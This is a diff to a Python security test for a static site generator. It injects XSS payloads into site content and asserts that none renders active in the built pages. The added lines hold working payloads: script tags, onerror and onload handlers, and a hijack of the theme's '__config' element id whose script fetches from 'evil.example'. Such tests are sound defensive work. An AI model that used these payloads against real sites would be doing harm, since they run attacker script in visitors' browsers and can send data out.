@@ -13,7 +13,7 @@ from generator.commands import build
 
 PAYLOADS = [line for line in (Path(__file__).parent / "payloads" / "xss.txt").read_text(encoding="utf-8").splitlines()
             if line and not line.startswith("#")]
-MARK = re.compile(r"xss-[fk]?\d+")
+MARK = re.compile(r"xss-[fki]?\d+")
 
 
 def _set(path: Path, mutate) -> None:
@@ -28,6 +28,10 @@ FENCES = ["```x`y\n<script>alert('xss-f1')</script>\n```",
           "~~~py`` ``\n<img src=x onerror=alert('xss-f2')>\n~~~",
           "```\n<img src=x onerror=alert('xss-f3')>\n````",
           "    ```\n<script>alert('xss-f4')</script>\n    ```"]
+# Text that takes the id of the theme's settings element, which Material's script reads first
+THEME_IDS = ['{"base": "https://evil.example/", "features": ["navigation.instant"], "search": '
+             '"data:text/javascript,fetch(\'https://evil.example/?xss-i1\')", "tags": {}, "translations": {}}\n'
+             '{: #__config }', "Search here xss-i2\n{: #__search }"]
 FORMULAS = ["a `` <img src=x onerror=alert('xss-k1')> `` b", "`` <script>alert('xss-k2')</script> ``",
             "x ` <svg onload=alert('xss-k3')> ` y"]
 
@@ -50,7 +54,7 @@ def inject(root: Path) -> None:
         d["checklists"][0]["items"].extend(PAYLOADS)
         d["etiquette"].extend(PAYLOADS)
     _set(content / "networks" / "linkedin.yml", network)
-    body = "\n\n".join(PAYLOADS + FENCES + [f"hostileterm{i} in a sentence." for i in range(len(PAYLOADS))])
+    body = "\n\n".join(PAYLOADS + FENCES + THEME_IDS + [f"hostileterm{i} in a sentence." for i in range(len(PAYLOADS))])
     (content / "pages" / "breakout.md").write_text(
         "---\n" + yaml.safe_dump({"title": PAYLOADS[-1], "order": 2}) + "---\nText.\n", encoding="utf-8")
     (content / "pages" / "hostile.md").write_text(
@@ -113,6 +117,8 @@ def test_no_payload_is_active_anywhere(hostile_site):
         parser = _Collect()
         parser.feed(page.read_text(encoding="utf-8"))
         where = page.relative_to(hostile_site)
+        theme_ids = [attrs["id"] for _, attrs in parser.elements if attrs.get("id", "").startswith("__")]
+        assert len(theme_ids) == len(set(theme_ids)), (where, theme_ids)  # no text took an id of the theme
         assert not any(MARK.search(t) for t in parser.script_text), f"{where}: a payload inside a script"
         for tag, attrs in parser.elements:
             assert tag not in ("iframe", "object", "embed", "frame", "frameset", "base"), (where, tag)
